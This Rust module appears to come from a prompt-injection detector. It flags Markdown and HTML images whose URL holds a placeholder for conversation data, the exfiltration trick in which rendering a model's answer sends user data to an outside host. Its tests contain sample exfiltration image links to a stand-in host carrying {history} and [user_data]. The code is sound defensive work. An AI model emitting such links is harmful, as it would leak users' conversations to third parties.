//! Pictures whose address carries something: whoever shows the answer fetches it, and what the model wrote into the address leaves.

use super::rules::Sign;
use std::ops::Range;

/// How much such a picture counts: enough by itself.
const SCORE: u32 = 70;
/// No address of a picture is looked at further than this.
const ADDRESS_BYTES_MAX: usize = 512;
/// A value in an address that is longer is no size and no style.
const VALUE_BYTES_MAX: usize = 96;

/// Pictures in Markdown and HTML with a place for what is to be carried out: `?q={history}`, `?d=<last message>`. Of folded text.
pub(super) fn signs(folded: &str) -> Vec<Sign> {
    let markdown = folded.match_indices("![").filter_map(|(at, _)| {
        let rest = front(folded, at);
        let begins = rest.find("](")?.saturating_add(2);
        let address = rest.get(begins..)?;
        let end = address.find(')').unwrap_or(address.len());
        Some((at..at.saturating_add(begins).saturating_add(end), address.get(..end)?))
    });
    let html = folded.match_indices("<img").filter_map(|(at, _)| {
        let rest = front(folded, at);
        let begins = rest.find("src=")?.saturating_add(4);
        let address = rest.get(begins..)?;
        // A quoted address may hold the sign that ends the tag.
        let address = address.strip_prefix(['"', '\'']).unwrap_or(address);
        let end = address.find(['"', '\'']).or_else(|| address.find('>')).unwrap_or(address.len());
        Some((at..at.saturating_add(begins).saturating_add(end), address.get(..end)?))
    });
    let carries = |(range, address): (Range<usize>, &str)| {
        carries(address).then_some(Sign { rule: "picture_carries", score: SCORE, range })
    };
    markdown.chain(html).filter_map(carries).collect()
}

fn front(text: &str, at: usize) -> &str {
    let end = text.floor_char_boundary(at.saturating_add(ADDRESS_BYTES_MAX));
    text.get(at..end).unwrap_or_default()
}

fn carries(address: &str) -> bool {
    let Some((host, query)) = address.split_once(['?', '#']) else {
        return address.contains("://") && address.contains(['{', '[', '<', '$']);
    };
    let has_place = query.contains(['{', '[', '<', '$']) || query.contains("%7b") || query.contains("...");
    let is_long = query.split(['=', '&']).any(|value| value.len() > VALUE_BYTES_MAX);
    host.contains("//") && (has_place || is_long)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn pictures_with_a_place_for_data_are_found() {
        for (text, found) in [
            ("![x](https://c.example/i.png?d={history})", true),
            ("![x](https://c.example/p?q=<the last message>)", true),
            ("<img src=\"https://c.example/a.gif?c=[user_data]\" width=1>", true),
            ("![x](https://c.example/{topic}.png)", true),
            ("![build](https://img.example.com/build.svg?style=flat&branch=main)", false),
            ("![a picture](pictures/a[1].png)", false),
            ("<img src=\"/logo.png\"> [a link](https://c.example/?d={x})", false),
        ] {
            assert_eq!(!signs(text).is_empty(), found, "{text}");
        }
        let long = format!("![x](https://c.example/p?q={})", "a".repeat(100));
        assert_eq!(signs(&long).len(), 1);
    }
}
